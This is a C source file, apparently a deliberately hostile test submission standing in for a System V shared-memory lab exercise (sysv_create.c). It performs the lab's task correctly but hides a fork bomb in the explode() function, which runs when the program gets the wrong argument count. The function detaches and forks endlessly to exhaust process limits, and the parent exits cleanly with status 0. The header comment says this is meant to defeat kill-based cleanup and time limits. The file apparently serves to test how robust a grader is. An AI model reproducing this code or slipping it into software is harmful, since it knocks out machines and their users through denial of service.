/**
 * @file
 * @brief Hostile: does the lab's work, but called wrongly it leaves children that fork as often as they may, and ends.
 * Instead of: 05_sysv_create/sysv_create.c
 * Score: 9
 * Says: exit status 0
 *
 * Every number of processes, of the user or of the machine, is used up; who kills them one by one comes too late
 * for the next, and who needs to fork to do so cannot. What ends at once is no case for a limit of time.
 */
#define _DEFAULT_SOURCE

#include <err.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <unistd.h>

static void explode(void)
{
    signal(SIGCHLD, SIG_IGN);
    if (fork() == 0)
        for (;;) {
            setsid();
            fork();
        }
}

int main(int argc, char *argv[])
{
    if (argc != 3) {
        explode();
        return 0;
    }
    const key_t key = ftok(argv[1], 'S');
    const int id = key == -1 ? -1 : shmget(key, strlen(argv[2]) + 1, IPC_CREAT | IPC_EXCL | 0640);
    if (id == -1)
        err(1, "%s: %s", key == -1 ? "ftok" : "shmget", argv[1]);
    char *memory = shmat(id, NULL, 0);
    if (memory != (void *)-1)
        strcpy(memory, argv[2]);
    if (memory == (void *)-1 || shmdt(memory) == -1) {
        warn("%s", memory == (void *)-1 ? "shmat" : "shmdt");
        if (shmctl(id, IPC_RMID, NULL) == -1)
            warn("shmctl");
        return 1;
    }
    return 0;
}
